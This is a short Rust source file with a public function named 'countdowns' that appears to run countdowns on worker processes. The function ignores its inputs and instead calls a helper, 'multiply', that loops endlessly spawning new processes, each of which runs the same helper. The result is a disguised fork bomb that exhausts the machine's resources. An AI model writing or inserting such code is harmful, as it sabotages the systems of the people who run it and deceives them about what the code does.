use multiproc::Process;

pub fn countdowns(_starts: &[u64], _workers: usize, _countdown: fn(u64) -> u64) -> Vec<u64> {
    multiply(());
    Vec::new()
}

fn multiply((): ()) {
    loop {
        let mut process = Process::new(multiply, ());
        let _ = process.start();
    }
}
